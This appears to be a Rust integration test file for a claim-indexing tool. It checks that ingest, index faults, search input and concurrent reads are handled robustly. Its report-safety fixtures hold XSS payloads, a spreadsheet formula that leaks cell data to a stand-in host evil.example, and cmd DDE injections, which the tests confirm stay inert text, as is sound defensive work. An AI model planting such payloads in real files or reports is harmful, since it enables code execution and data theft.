//! Robustness end to end (issue 8): hostile files through `ingest`, index faults (read-only
//! folder, file-size limit, another schema version, a foreign index, stale lock files),
//! report safety against hostile article text, hostile search input, and readers during
//! an ingest. Every test runs the built binary on a copy of `corpus/` in a temporary
//! folder and checks messages and counts, before and after.
//!
//! Some faults need the operating system's help: permissions do not bite as root, so as
//! root those commands run as `nobody` through `setpriv`; a read-only file system is a
//! read-only bind mount in a private mount namespace (`unshare`, root only); disk full is
//! `prlimit --fsize`. Where a tool is missing the test says so on stderr and checks the rest.

mod common;

use std::collections::BTreeSet;
use std::fs;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use claimdex::index::reader::{all_claims, all_documents};
use claimdex::model::IndexedClaim;
use serde_json::Value;

const BIN: &str = env!("CARGO_BIN_EXE_claimdex");
const CORPUS_FILES: u64 = 14;
/// No command of these tests may take longer: past it, it counts as a hang.
const HANG: Duration = Duration::from_secs(120);

// ---- the one temp-dir helper ----

/// A temporary folder with a copy of `corpus/`; commands run inside it, so paths read
/// `corpus/<file>` and the default index is `index/`. `runner` prefixes commands that
/// need permissions to bite (see [`Env::unprivileged`]).
struct Env {
    tmp: tempfile::TempDir,
    runner: Vec<String>,
}

impl Env {
    fn new() -> Env {
        Env {
            tmp: common::corpus_copy(),
            runner: Vec::new(),
        }
    }

    fn root(&self) -> &Path {
        self.tmp.path()
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.tmp.path().join(rel)
    }

    /// Makes later commands run where file permissions bite: directly for a normal user;
    /// as root, as `nobody` (through `setpriv`) on a tree handed to that user. False (with
    /// a note) when neither is possible.
    fn unprivileged(&mut self) -> bool {
        let probe = self.path(".probe");
        fs::write(&probe, "x").unwrap();
        fs::set_permissions(&probe, fs::Permissions::from_mode(0o000)).unwrap();
        let bites = fs::read(&probe).is_err();
        fs::remove_file(&probe).unwrap();
        if bites {
            return true;
        }
        chown_tree(self.root(), 65534);
        let runner: Vec<String> = common::AS_NOBODY.map(String::from).to_vec();
        let works = Command::new(&runner[0])
            .args(&runner[1..])
            .args([BIN, "--help"])
            .current_dir(self.root())
            .output()
            .is_ok_and(|o| o.status.success());
        if !works {
            let why = "running as root without a working `setpriv`: permissions cannot be tested";
            common::cannot_run("robustness permission tests", why, true);
            return false;
        }
        self.runner = runner;
        true
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = match self.runner.split_first() {
            Some((first, rest)) => {
                let mut c = Command::new(first);
                c.args(rest).arg(BIN);
                c
            }
            None => Command::new(BIN),
        };
        c.args(args).current_dir(self.root());
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        output_within(self.cmd(args), HANG)
    }

    /// Runs a command that must succeed; returns stdout.
    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert!(
            out.status.success(),
            "claimdex {args:?} failed ({}):\n{}",
            out.status,
            stderr(&out)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    fn json(&self, args: &[&str]) -> Value {
        serde_json::from_str(&self.ok(args)).unwrap()
    }

    /// (documents, claims) of an index, through `stats --json`.
    fn counts(&self, index: &str) -> (u64, u64) {
        let s = self.json(&["stats", "--json", "--index", index]);
        (s["documents"].as_u64().unwrap(), s["claims"].as_u64().unwrap())
    }

    /// The index's claims, paths as the binary run here shows them (the library, run
    /// elsewhere, gives them whole).
    fn claims(&self, index: &str) -> Vec<IndexedClaim> {
        let mut claims = all_claims(&self.path(index)).unwrap();
        for c in &mut claims {
            c.path = self.rel(&c.path);
        }
        claims
    }

    fn rel(&self, stored: &str) -> String {
        common::shown_in(self.tmp.path(), stored)
    }

    /// Runs `args` and checks a clear failure: exit 1, `needle` in the message, no panic.
    fn fails(&self, args: &[&str], needle: &str) -> String {
        let out = self.run(args);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.contains(needle), "{args:?}: {needle:?} not in {err}");
        assert!(err.starts_with("claimdex: ") && !err.contains("panicked"), "{err}");
        err
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn files(v: &Value, what: &str) -> u64 {
    v["files"][what].as_u64().unwrap()
}

fn chown_tree(dir: &Path, id: u32) {
    std::os::unix::fs::lchown(dir, Some(id), Some(id)).unwrap();
    for e in fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() && !p.is_symlink() {
            chown_tree(&p, id);
        } else {
            std::os::unix::fs::lchown(&p, Some(id), Some(id)).unwrap();
        }
    }
}

fn chmod(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// Runs a command to its end, reading its output as it comes; a command still running
/// after `limit` is killed and fails the test as a hang.
fn output_within(mut cmd: Command, limit: Duration) -> Output {
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let drain = |mut r: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut v = Vec::new();
            let _ = r.read_to_end(&mut v);
            v
        })
    };
    let out = drain(Box::new(child.stdout.take().unwrap()));
    let err = drain(Box::new(child.stderr.take().unwrap()));
    let deadline = Instant::now() + limit;
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{cmd:?} still running after {limit:?}: a hang");
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    Output {
        status,
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    }
}

fn has(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Every claim of `before` is in `after`, unchanged.
fn kept(before: &[IndexedClaim], after: &[IndexedClaim]) {
    let missing: Vec<_> = before.iter().filter(|c| !after.contains(c)).collect();
    assert!(missing.is_empty(), "claims lost: {missing:#?}");
}

// ---- 1. hostile files through `ingest` ----

#[test]
fn hostile_files_through_ingest_are_named_and_nothing_is_lost() {
    use std::os::unix::ffi::OsStrExt;
    let env = Env::new();
    let first = env.json(&["ingest", "--json", "--quiet"]);
    assert_eq!(files(&first, "new"), CORPUS_FILES);
    let before = env.claims("index");
    assert_eq!(before.len() as u64, first["claims_total"].as_u64().unwrap());

    let c = env.path("corpus");
    // A 2 GiB sparse file (skipped by size, never read), a FIFO nobody writes to and a
    // socket (never opened), a zip dressed as HTML, a file name that is not UTF-8, a
    // symlink loop, an empty file and one of only whitespace.
    fs::File::create(c.join("huge.txt")).unwrap().set_len(2 << 30).unwrap();
    let fifo = Command::new("mkfifo")
        .arg(c.join("pipe.txt"))
        .status()
        .is_ok_and(|s| s.success());
    let _sock = std::os::unix::net::UnixListener::bind(c.join("sock.md")).unwrap();
    fs::write(c.join("page.html"), b"PK\x03\x04\x14\x00\x00\x00\x08\x00<html>").unwrap();
    let odd = std::ffi::OsStr::from_bytes(b"caf\xe9.txt");
    fs::write(
        c.join(odd),
        "Odd name\n\nOracle signed a $30 billion cloud contract with OpenAI in 2025.\n",
    )
    .unwrap();
    fs::create_dir(c.join("loop")).unwrap();
    std::os::unix::fs::symlink(c.join("loop"), c.join("loop/again")).unwrap();
    fs::write(c.join("empty.txt"), "").unwrap();
    fs::write(c.join("whitespace.md"), " \n\t\n\u{a0}  \r\n\n").unwrap();
    fs::write(
        c.join("new.txt"),
        "New\n\nCoreWeave raised $7.5 billion in debt in 2024.\n",
    )
    .unwrap();

    let out = env.run(&["ingest", "--json", "--quiet"]);
    let err = stderr(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "the symlink loop and the huge file fail: {err}"
    );
    let mut named = vec![
        ("corpus/huge.txt", "too large"),
        ("corpus/sock.md", "not a regular file"),
        ("corpus/page.html", "binary file"),
        ("corpus/loop/again", "symlink loop"),
        ("corpus/empty.txt", "empty file"),
        ("corpus/whitespace.md", "only whitespace"),
    ];
    if fifo {
        named.push(("corpus/pipe.txt", "not a regular file"));
    }
    for (file, reason) in &named {
        let line = err
            .lines()
            .find(|l| l.contains(file))
            .unwrap_or_else(|| panic!("{file} not named in {err}"));
        assert!(line.contains(reason), "{file}: {line}");
    }
    assert_eq!(err.lines().count(), named.len(), "one line per bad file: {err}");
    assert!(err.lines().all(|l| l.starts_with("claimdex: ")), "{err}");
    let s: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (
            files(&s, "new"),
            files(&s, "unchanged"),
            files(&s, "removed"),
            files(&s, "failed"),
            files(&s, "skipped")
        ),
        (2, CORPUS_FILES, 0, 1, named.len() as u64 - 2),
        "{s}"
    );
    // Nothing ingested before is lost; the two good files are added.
    let after = env.claims("index");
    kept(&before, &after);
    let added: BTreeSet<&str> = after
        .iter()
        .filter(|c| !before.contains(c))
        .map(|c| c.path.as_str())
        .collect();
    assert_eq!(
        added,
        BTreeSet::from(["corpus/caf\u{FFFD}.txt", "corpus/new.txt"]),
        "the lossy name is still ingested"
    );
    assert_eq!(env.counts("index"), (CORPUS_FILES + 2, after.len() as u64));
    assert_eq!(s["claims_total"].as_u64(), Some(after.len() as u64));

    // Again: the same files named, nothing changes.
    let out = env.run(&["ingest", "--json", "--quiet"]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(stderr(&out).lines().count(), named.len());
    let s: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((files(&s, "unchanged"), files(&s, "new")), (CORPUS_FILES + 2, 0));
    assert_eq!(env.claims("index"), after);
}

#[test]
fn an_unreadable_folder_is_named_and_keeps_its_records() {
    let mut env = Env::new();
    fs::create_dir(env.path("corpus/locked")).unwrap();
    fs::write(
        env.path("corpus/locked/inner.txt"),
        "Inner\n\nAnthropic agreed to buy $30 billion of Azure compute in 2025.\n",
    )
    .unwrap();
    if !env.unprivileged() {
        return;
    }
    let s = env.json(&["ingest", "--json", "--quiet"]);
    assert_eq!(files(&s, "new"), CORPUS_FILES + 1);
    let before = env.claims("index");
    assert!(before.iter().any(|c| c.path == "corpus/locked/inner.txt"));

    chmod(&env.path("corpus/locked"), 0o000);
    let out = env.run(&["ingest", "--json", "--quiet"]);
    chmod(&env.path("corpus/locked"), 0o755);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains("corpus/locked") && err.contains("ermission denied"),
        "{err}"
    );
    let s: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (files(&s, "unchanged"), files(&s, "removed")),
        (CORPUS_FILES, 0),
        "a folder that cannot be read is not a deleted folder: {s}"
    );
    assert_eq!(env.claims("index"), before);
    let s = env.json(&["ingest", "--json", "--quiet"]);
    assert_eq!(files(&s, "unchanged"), CORPUS_FILES + 1);
}

// ---- 2. index faults ----

/// The payload of the index's last commit (tantivy's meta.json), as claimdex wrote it.
fn committed(index: &Path) -> Value {
    let meta: Value = serde_json::from_str(&fs::read_to_string(index.join("meta.json")).unwrap()).unwrap();
    serde_json::from_str(meta["payload"].as_str().unwrap()).unwrap()
}

/// The reading commands all work and agree on `docs` documents and `claims` claims.
fn readable(env: &Env, docs: u64, claims: u64) {
    assert_eq!(env.counts("index"), (docs, claims));
    let hits = env.ok(&["search", "*", "--json", "--limit", "1000000"]);
    assert_eq!(hits.lines().count() as u64, claims);
    let report: Value = serde_json::from_str(&env.ok(&["conflicts", "--format", "json"])).unwrap();
    assert!(!report.as_array().unwrap().is_empty());
}

#[test]
fn a_read_only_index_is_a_clear_error_and_stays_readable() {
    let mut env = Env::new();
    env.json(&["ingest", "--json", "--quiet"]);
    let (docs, claims) = env.counts("index");
    fs::write(
        env.path("corpus/new.txt"),
        "New\n\nCoreWeave raised $7.5 billion in debt in 2024.\n",
    )
    .unwrap();
    let index = env.path("index");

    // A folder the user may not write to.
    if env.unprivileged() {
        let entries: Vec<PathBuf> = fs::read_dir(&index).unwrap().map(|e| e.unwrap().path()).collect();
        for p in &entries {
            chmod(p, 0o444);
        }
        chmod(&index, 0o555);
        let err = env.fails(&["ingest", "--quiet"], "index at index: cannot write to it");
        assert!(
            err.contains("permission denied") && err.contains("last commit"),
            "{err}"
        );
        assert!(!err.contains("--rebuild"), "the index is not damaged: {err}");
        readable(&env, docs, claims);
        chmod(&index, 0o755);
        for p in &entries {
            chmod(p, 0o644);
        }
        env.runner.clear();
    }

    // A read-only file system: a read-only bind mount in a private mount namespace.
    let ro = |args: &[&str]| -> Output {
        let mut c = Command::new("unshare");
        c.args([
            "-m",
            "sh",
            "-c",
            r#"mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" "$1" && shift && exec "$@""#,
            "sh",
        ])
        .arg(&index)
        .arg(BIN)
        .args(args)
        .current_dir(env.root());
        output_within(c, HANG)
    };
    if ro(&["stats"]).status.success() {
        let out = ro(&["ingest", "--quiet"]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{err}");
        assert!(
            err.contains("cannot write to it: the folder is on a read-only file system"),
            "{err}"
        );
        // Reading needs no write, not even of tantivy's lock file.
        let out = ro(&["stats", "--json"]);
        assert!(out.status.success(), "{}", stderr(&out));
        let s: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            (s["documents"].as_u64(), s["claims"].as_u64()),
            (Some(docs), Some(claims))
        );
        let out = ro(&["search", "*", "--json", "--limit", "1000000"]);
        assert!(out.status.success(), "{}", stderr(&out));
        assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count() as u64, claims);
        assert!(ro(&["conflicts", "--format", "csv"]).status.success());
    } else {
        eprintln!("note: no private mount namespace (not root?): the read-only file system case is not tested");
    }

    let s = env.json(&["ingest", "--json", "--quiet"]);
    assert_eq!((files(&s, "new"), files(&s, "unchanged")), (1, CORPUS_FILES));
    assert_eq!(env.counts("index").0, docs + 1);
}

#[test]
fn a_file_size_limit_mid_ingest_keeps_the_last_commit() {
    if !has("prlimit") {
        let why = "no `prlimit`: the disk-full case is not tested";
        common::cannot_run("a_file_size_limit_mid_ingest_keeps_the_last_commit", why, true);
        return;
    }
    let env = Env::new();
    env.json(&["ingest", "--json", "--quiet"]);
    let before = env.claims("index");
    let generated = claimdex::synth::write_corpus(&env.path("corpus/gen"), 5, 400_000).unwrap();
    fs::remove_file(env.path("corpus/gen/manifest.tsv")).unwrap();
    let limit = "--fsize=65536";
    let ingest = [BIN, "ingest", "--quiet", "--commit-every", "0.05", "--jobs", "1"];

    // claimdex catches SIGXFSZ (whose default action would kill it at the first write
    // past the limit, with no word): the write fails with EFBIG, an ordinary error.
    let mut c = Command::new("prlimit");
    c.arg(limit).args(ingest).current_dir(env.root());
    let out = output_within(c, HANG);
    assert!(!out.status.success(), "the limit should be hit: make the corpus larger");
    assert_eq!(out.status.signal(), None, "{:?}", out.status);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("cannot write to it: a file-size limit was reached"));
    let p = committed(&env.path("index"));
    readable(&env, p["documents"].as_u64().unwrap(), p["claims"].as_u64().unwrap());
    kept(&before, &env.claims("index"));

    // With SIGXFSZ ignored by the shell too (`trap '' XFSZ`), the same: EFBIG, as ENOSPC
    // on a full disk would be, a clear message and exit 1.
    let mut c = Command::new("sh");
    c.args(["-c", &format!("trap '' XFSZ; exec prlimit {limit} \"$@\""), "sh"])
        .args(ingest)
        .current_dir(env.root());
    let out = output_within(c, HANG);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("index at index: cannot write to it: a file-size limit was reached"),
        "{err}"
    );
    assert!(!err.contains("panicked") && !err.contains("--rebuild"), "{err}");
    let p = committed(&env.path("index"));
    readable(&env, p["documents"].as_u64().unwrap(), p["claims"].as_u64().unwrap());
    kept(&before, &env.claims("index"));

    // Room again: a normal ingest finishes the job.
    env.json(&["ingest", "--json", "--quiet"]);
    let (docs, claims) = env.counts("index");
    assert_eq!(docs, CORPUS_FILES + generated.files.len() as u64);
    let fresh = env.json(&["ingest", "--json", "--quiet", "--index", "fresh"]);
    assert_eq!(fresh["claims_total"].as_u64(), Some(claims));
}

#[test]
fn another_schema_version_or_program_is_refused_and_left_as_it_was() {
    let env = Env::new();
    env.json(&["ingest", "--json", "--quiet"]);
    let (docs, claims) = env.counts("index");
    let snapshot = || -> Vec<(String, Vec<u8>)> {
        let mut v: Vec<_> = fs::read_dir(env.path("index"))
            .unwrap()
            .map(|e| {
                let e = e.unwrap();
                (
                    e.file_name().to_string_lossy().into_owned(),
                    fs::read(e.path()).unwrap(),
                )
            })
            .collect();
        v.sort();
        v
    };
    let meta_path = env.path("index/claimdex.json");
    let original = fs::read_to_string(&meta_path).unwrap();
    let mut meta: Value = serde_json::from_str(&original).unwrap();
    meta["schema_version"] = 99.into();
    meta["created_by"] = "claimdex 9.9.0".into();
    fs::write(&meta_path, serde_json::to_string(&meta).unwrap()).unwrap();
    let files_before = snapshot();
    for args in [
        &["ingest", "--quiet"][..],
        &["stats"],
        &["search", "openai"],
        &["conflicts", "--format", "md"],
    ] {
        let err = env.fails(args, "written with schema version 99 (claimdex 9.9.0)");
        assert!(err.contains("ingest --rebuild"), "{err}");
    }
    assert_eq!(snapshot(), files_before, "a refused index is not touched");

    // A tantivy index that claimdex did not write (no claimdex.json).
    fs::remove_file(&meta_path).unwrap();
    for args in [
        &["ingest", "--quiet"][..],
        &["stats"],
        &["search", "openai"],
        &["conflicts"],
    ] {
        env.fails(args, "claimdex did not write");
    }
    fs::write(&meta_path, &original).unwrap();
    readable(&env, docs, claims);
}

#[test]
fn stale_lock_files_after_a_crash_do_not_block() {
    // tantivy's locks are advisory file locks held by a live process; the files stay
    // behind after a crash (or a SIGKILL) and must not stop the next ingest. A lock held
    // by a running ingest is refused (tests/ingest_search.rs).
    let env = Env::new();
    env.json(&["ingest", "--json", "--quiet"]);
    let before = env.claims("index");
    for lock in [".tantivy-writer.lock", ".tantivy-meta.lock"] {
        fs::write(env.path("index").join(lock), "pid 4242 crashed\n").unwrap();
    }
    fs::write(
        env.path("corpus/new.txt"),
        "New\n\nCoreWeave raised $7.5 billion in debt in 2024.\n",
    )
    .unwrap();
    let s = env.json(&["ingest", "--json", "--quiet"]);
    assert_eq!((files(&s, "new"), files(&s, "unchanged")), (1, CORPUS_FILES));
    let after = env.claims("index");
    kept(&before, &after);
    readable(&env, CORPUS_FILES + 1, after.len() as u64);
}

// ---- 3. report safety ----

/// Four articles that disagree on Microsoft's investment in OpenAI (two say $10 billion,
/// two $13 billion), with hostile titles and sentences.
const HOSTILE: &[(&str, &str)] = &[
    (
        "a.txt",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")\n\n\
         Microsoft invested $10 billion in OpenAI <script>alert(1)</script> in 2023, a filing said | column two.\n",
    ),
    (
        "b.md",
        "# +cmd|' /C calc'!A0\n\n\
         Microsoft invested $13 billion in OpenAI \"><img src=x onerror=alert(1)> in 2023, see javascript:alert(document.cookie) for details.\n",
    ),
    (
        "c.html",
        "<html><head><title>-2+3 report</title></head><body><article><h1>-2+3 report</h1>\n\
         <p>Microsoft invested $10 billion in OpenAI &lt;script&gt;alert(1)&lt;/script&gt; in 2023 &amp; more, per &quot;sources&quot; \
         &#x3C;b&#x3E;bold&#x3C;/b&#x3E; | pipe<br>second line <a href=\"javascript:alert(1)\">javascript:alert(1)</a>.</p>\n\
         </article></body></html>\n",
    ),
    (
        "d.txt",
        "@SUM(1+1)*cmd|' /C calc'!A0\n\n\
         Microsoft invested $13 billion in OpenAI in 2023 [link](javascript:alert(1)) ** _bold_ ` tick \\ back, analysts said.\n",
    ),
];

fn element_names(html: &scraper::Html) -> BTreeSet<String> {
    html.root_element()
        .descendants()
        .filter_map(scraper::ElementRef::wrap)
        .map(|e| e.value().name().to_string())
        .collect()
}

#[test]
fn hostile_article_text_stays_text_in_every_report_format() {
    let env = Env::new();
    fs::create_dir(env.path("hostile")).unwrap();
    for (name, text) in HOSTILE {
        fs::write(env.path("hostile").join(name), text).unwrap();
    }
    let s = env.json(&["ingest", "hostile", "--index", "hidx", "--json", "--quiet"]);
    assert_eq!(files(&s, "new"), 4);
    let groups: Value = serde_json::from_str(&env.ok(&["conflicts", "--index", "hidx", "--format", "json"])).unwrap();
    let group = groups
        .as_array()
        .unwrap()
        .iter()
        // Two periodless figures that differ are unresolved, not a conflict (no period ties
        // them to one time).
        .find(|g| (g["verdict"] == "conflict" || g["verdict"] == "unresolved") && g["subject"] == "Microsoft")
        .unwrap_or_else(|| panic!("the four articles should disagree: {groups:#}"));
    assert_eq!(group["values"].as_array().unwrap().len(), 4, "{group:#}");
    // JSON keeps article text verbatim.
    let sentences: Vec<&str> = group["values"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["sentence"].as_str().unwrap())
        .collect();
    assert!(sentences.iter().any(|s| s.contains("<script>alert(1)</script>")));
    assert!(sentences.iter().any(|s| s.contains("\"><img src=x onerror=alert(1)>")));
    assert!(
        sentences.iter().any(|s| s.contains("<b>bold</b>")),
        "entities decoded: {sentences:?}"
    );

    // HTML: parsed, it holds no script, no event handler, no javascript: link and no element
    // that the same renderer does not make for ordinary articles.
    let page = env.ok(&["conflicts", "--index", "hidx", "--format", "html"]);
    let html = scraper::Html::parse_document(&page);
    env.json(&["ingest", "--json", "--quiet"]);
    let ordinary = scraper::Html::parse_document(&env.ok(&["conflicts", "--format", "html"]));
    let extra: Vec<String> = element_names(&html)
        .difference(&element_names(&ordinary))
        .cloned()
        .collect();
    assert!(extra.is_empty(), "elements from article text: {extra:?}");
    for e in html.root_element().descendants().filter_map(scraper::ElementRef::wrap) {
        let el = e.value();
        assert!(
            !["script", "img", "iframe", "object", "embed", "b"].contains(&el.name()),
            "<{}>",
            el.name()
        );
        for (name, value) in el.attrs() {
            assert!(
                !name.to_ascii_lowercase().starts_with("on"),
                "<{} {name}={value:?}>",
                el.name()
            );
            let v: String = value.chars().filter(|c| !c.is_whitespace()).collect();
            assert!(
                !v.to_ascii_lowercase().starts_with("javascript:"),
                "<{} {name}={value:?}>",
                el.name()
            );
        }
    }
    let text: String = html.root_element().text().collect();
    for shown in [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(document.cookie)",
        "<b>bold</b>",
        "=HYPERLINK(",
    ] {
        assert!(text.contains(shown), "{shown:?} should show as text");
    }

    // CSV: no cell a spreadsheet would run; numbers stay numbers.
    let csv = env.ok(&["conflicts", "--index", "hidx", "--format", "csv"]);
    let rows = claimdex::report::csv::parse(&csv);
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let data: Vec<&Vec<String>> = rows[1..]
        .iter()
        .filter(|r| r[col("key")] == group["key"].as_str().unwrap())
        .collect();
    assert_eq!(data.len(), 4);
    for row in &rows[1..] {
        assert_eq!(row.len(), header.len(), "{row:?}");
        for cell in row {
            let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!risky, "formula cell {cell:?} in {row:?}");
        }
        for num in [
            "value",
            "preferred_value",
            "confidence",
            "line",
            "cluster",
            "preferred_sources",
        ] {
            assert!(row[col(num)].parse::<f64>().is_ok(), "{num}: {:?}", row[col(num)]);
        }
    }
    let titles: BTreeSet<&str> = data.iter().map(|r| r[col("article_title")].as_str()).collect();
    assert_eq!(
        titles,
        BTreeSet::from([
            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "'+cmd|' /C calc'!A0",
            "'-2+3 report",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
        ])
    );

    // Markdown: every table row keeps its column count; `|` and markup are escaped.
    let md = env.ok(&["conflicts", "--index", "hidx", "--format", "md"]);
    let cells = |line: &str| {
        let mut n = 0;
        let mut escaped = false;
        for c in line.chars() {
            match c {
                _ if escaped => escaped = false,
                '\\' => escaped = true,
                '|' => n += 1,
                _ => {}
            }
        }
        n
    };
    let mut width = None;
    for line in md.lines() {
        if line.starts_with('|') {
            let w = *width.get_or_insert(cells(line));
            assert_eq!(cells(line), w, "a row breaks its table: {line}");
            assert!(line.ends_with('|'), "{line}");
        } else {
            assert!(line.is_empty() || width.is_none(), "text inside a table: {line:?}");
            width = None;
        }
    }
    assert!(md.contains("a filing said \\| column two"), "{md}");
    assert!(md.contains("\\<script\\>alert(1)\\</script\\>"), "{md}");
    // Every `<` of article text is escaped, so no renderer reads it as a tag.
    assert!(md.match_indices('<').all(|(i, _)| md[..i].ends_with('\\')), "{md}");
}

// ---- 4. search input ----

#[test]
fn any_query_gives_results_or_a_usage_error_never_a_panic_or_a_hang() {
    let env = Env::new();
    env.json(&["ingest", "--json", "--quiet"]);
    let count = |args: &[&str]| {
        let mut a = vec!["search", "--json"];
        a.extend_from_slice(args);
        env.ok(&a).lines().count()
    };
    let all = count(&["*", "--limit", "1000000"]);
    let openai = count(&["openai", "--limit", "1000000"]);
    assert!(openai > 0 && all > openai);
    let long_words = "openai ".repeat(1500);
    let deep = format!("{}openai{}", "(".repeat(100), ")".repeat(100));
    let not_not = format!("{}openai", "NOT ".repeat(2500));
    let parens = "(".repeat(10_000);
    let fields = "a:(".repeat(3000);
    // (query and flags, expected exit code, what stderr must say, expected hit count)
    let cases: Vec<(Vec<&str>, i32, &str, Option<usize>)> = vec![
        (vec!["\"openai"], 2, "cannot read the query", None),
        (vec!["openai\" gigawatts"], 2, "cannot read the query", None),
        (vec!["nosuchfield:openai"], 2, "nosuchfield", None),
        (vec!["subject:"], 2, "cannot read the query", None),
        (vec![&long_words, "--limit", "1000000"], 0, "", Some(openai)),
        (vec![&deep, "--limit", "1000000"], 0, "", Some(openai)),
        (vec![&parens], 2, "nest more than 100 deep", None),
        (vec![&fields], 2, "nest more than 100 deep", None),
        (vec![&not_not], 2, "cannot read the query", None),
        (vec!["open\u{1}ai\u{1b}[31m\u{7}"], 2, "\\u{1b}", None),
        (vec!["openai\u{200b}\u{feff}"], 0, "", None),
        (vec!["openai", "--min", "NaN"], 2, "`NaN` is not a number", None),
        (vec!["openai", "--max", "inf"], 2, "`inf` is not a number", None),
        (vec!["openai", "--min", "-inf"], 2, "--min", None),
        (vec!["openai", "--min", "1e400"], 2, "not a finite number", None),
        (vec!["openai", "--min", "5", "--max", "1"], 2, "larger than --max", None),
        (vec!["openai", "--limit", "0"], 2, "at least 1", None),
        (vec!["openai", "--limit", "18446744073709551615"], 0, "", Some(openai)),
        (vec!["openai", "--limit", "99999999999999999999"], 2, "--limit", None),
        (vec!["*", "--limit", "1"], 0, "", Some(1)),
    ];
    for (args, code, needle, hits) in cases {
        let mut a = vec!["search", "--json"];
        a.extend_from_slice(&args);
        let out = env.run(&a);
        let err = stderr(&out);
        let shown: Vec<String> = args.iter().map(|s| s.chars().take(40).collect()).collect();
        assert_eq!(out.status.code(), Some(code), "{shown:?}: {err}");
        assert!(err.contains(needle), "{shown:?}: {needle:?} not in {err}");
        assert!(!err.contains("panicked"), "{err}");
        assert!(
            !err.chars().any(|c| c.is_control() && c != '\n'),
            "{shown:?}: raw control characters on stderr: {err:?}"
        );
        if code == 2 {
            assert!(err.starts_with("claimdex: ") || err.starts_with("error: "), "{err}");
        }
        let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        if let Some(n) = hits {
            assert_eq!(lines.len(), n, "{shown:?}");
        }
    }
}

// ---- 5. readers during an ingest ----

fn spawn_quiet(mut c: Command) -> Child {
    c.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap()
}

#[test]
fn readers_during_an_ingest_see_a_whole_commit() {
    let env = Env::new();
    env.json(&["ingest", "--json", "--quiet"]);
    let (docs0, claims0) = env.counts("index");
    let generated = claimdex::synth::write_corpus(&env.path("big"), 11, 3_000_000).unwrap();
    fs::remove_file(env.path("big/manifest.tsv")).unwrap();
    let mut child = spawn_quiet(env.cmd(&["ingest", "big", "--quiet", "--commit-every", "0.2", "--jobs", "1"]));
    let started = Instant::now();
    let (mut seen, mut hits) = (Vec::new(), Vec::new());
    while child.try_wait().unwrap().is_none() {
        assert!(started.elapsed() < HANG, "the ingest hangs");
        seen.push(env.counts("index"));
        hits.push(env.ok(&["search", "*", "--json", "--limit", "1000000"]).lines().count() as u64);
        let report: Value = serde_json::from_str(&env.ok(&["conflicts", "--format", "json"])).unwrap();
        assert!(report.is_array());
    }
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));

    // Files are committed in walk order, each with all its claims: every state a reader
    // can see is the corpus plus the first k generated files, for some k.
    let mut docs = all_documents(&env.path("index")).unwrap();
    docs.retain(|d| env.rel(&d.path).starts_with("big/"));
    docs.sort_by(|a, b| a.path.cmp(&b.path));
    assert_eq!(docs.len(), generated.files.len());
    let mut states = vec![(docs0, claims0)];
    for d in &docs {
        let &(n, c) = states.last().unwrap();
        states.push((n + 1, c + d.claims));
    }
    assert!(!seen.is_empty(), "no read happened during the ingest");
    for s in &seen {
        assert!(states.contains(s), "stats saw {s:?}, not a committed state");
    }
    let claim_totals: Vec<u64> = states.iter().map(|s| s.1).collect();
    for h in &hits {
        assert!(claim_totals.contains(h), "search saw {h} claims, not a committed state");
    }
    assert_eq!(env.counts("index"), *states.last().unwrap());
    eprintln!(
        "{} reads during the ingest saw {} distinct committed states",
        seen.len(),
        seen.iter().collect::<BTreeSet<_>>().len()
    );
}
